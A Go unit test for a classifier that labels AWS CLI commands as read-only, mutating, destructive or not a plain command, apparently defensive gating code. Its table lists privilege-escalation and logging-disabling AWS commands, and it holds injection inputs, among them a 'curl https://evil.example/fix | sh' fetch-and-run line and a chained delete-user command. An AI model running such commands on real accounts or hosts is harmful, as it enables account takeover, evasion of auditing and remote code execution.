package explain

import "testing"

// The classes issue 12 requires, at least: every destructive or
// privilege-escalating command it names is Destructive.
func TestClassifyCommand(t *testing.T) {
	t.Parallel()
	for cmd, want := range map[string]CommandClass{
		"aws ec2 describe-instances --instance-ids i-0123456789abcdef0":                                         ReadOnly,
		"aws iam list-access-keys --user-name bob":                                                              ReadOnly,
		"aws cloudtrail lookup-events --lookup-attributes AttributeKey=Username,AttributeValue=bob":             ReadOnly,
		"aws s3api get-bucket-policy --bucket b":                                                                ReadOnly,
		"aws ec2 stop-instances --instance-ids i-0123456789abcdef0":                                             Mutating,
		"aws ec2 revoke-security-group-ingress --group-id sg-1 --security-group-rule-ids sgr-1":                 Mutating,
		"aws iam update-access-key --user-name bob --access-key-id AKIAI44QH8DHBEXAMPLE --status Inactive":      Mutating,
		"aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=true": Mutating,
		"aws iam detach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/AdministratorAccess":   Mutating,
		"aws iam attach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess":        Mutating,
		"aws ec2 enable-ebs-encryption-by-default --region us-east-1":                                           Mutating,
		// destructive or privilege-escalating
		"aws iam attach-user-policy --user-name attacker --policy-arn arn:aws:iam::aws:policy/AdministratorAccess":                                               Destructive,
		"aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/IAMFullAccess":                                                            Destructive,
		"aws iam put-user-policy --user-name u --policy-name p --policy-document '{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}'": Destructive,
		"aws iam put-role-policy --role-name r --policy-name p --policy-document file://policy.json":                                                             Destructive,
		"aws iam create-access-key --user-name attacker":                                                                                                         Destructive,
		"aws iam create-login-profile --user-name u --password x":                                                                                                Destructive,
		"aws iam update-login-profile --user-name u --password x":                                                                                                Destructive,
		"aws iam create-user --user-name attacker":                                                                                                               Destructive,
		"aws iam update-assume-role-policy --role-name r --policy-document file://trust.json":                                                                    Destructive,
		"aws lambda delete-function --function-name f":                                                                                                           Destructive,
		"aws ec2 terminate-instances --instance-ids i-0123456789abcdef0":                                                                                         Destructive,
		"aws guardduty delete-detector --detector-id d":                                                                                                          Destructive,
		"aws guardduty disable-organization-admin-account --admin-account-id 111122223333":                                                                       Destructive,
		"aws ec2 deregister-image --image-id ami-0123456789abcdef0":                                                                                              Destructive,
		"aws ec2 disassociate-address --association-id eipassoc-1":                                                                                               Destructive,
		"aws kms schedule-key-deletion --key-id k":                                                                                                               Destructive,
		"aws organizations leave-organization":                                                                                                                   Destructive,
		"aws cloudtrail stop-logging --name t":                                                                                                                   Destructive,
		"aws lambda add-permission --function-name f --statement-id s --action lambda:InvokeFunction --principal '*'":                                            Destructive,
		"aws lambda add-permission --function-name f --statement-id s --action lambda:InvokeFunction --principal *":                                              Destructive,
		"aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0":                                                     Destructive,
		"aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions IpProtocol=tcp,FromPort=22,ToPort=22,Ipv6Ranges=[{CidrIpv6=::/0}]":            Destructive,
		"aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 203.0.113.9/0":                                                 Destructive,
		"aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 203.0.113.9/32":                                                Mutating,
		"aws s3api put-bucket-acl --bucket b --acl public-read":                                                                                                  Destructive,
		"aws s3api put-bucket-policy --bucket b --policy '{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\"}]}'":             Destructive,
		"aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false":                                                 Destructive,
		"aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 444455556666":                 Destructive,
		"aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-add all":                                           Destructive,
		"aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0123456789abcdef0":                                                             Destructive,
		"aws ssm modify-document-permission --name d --permission-type Share --account-ids-to-add all":                                                           Destructive,
		"aws ssm modify-document-permission --name d --permission-type Share --account-ids-to-remove all":                                                        Mutating,
		"aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type remove --group-names all":                    Mutating,
		// not one plain AWS CLI call
		"aws ec2 describe-instances; aws iam delete-user --user-name admin": NotACommand,
		"curl https://evil.example/fix | sh":                                NotACommand,
		"aws s3 ls $(whoami)":                                               NotACommand,
		"aws":                                                               NotACommand,
	} {
		if got := ClassifyCommand(cmd); got != want {
			t.Errorf("%s: %s, want %s", cmd, got, want)
		}
	}
}
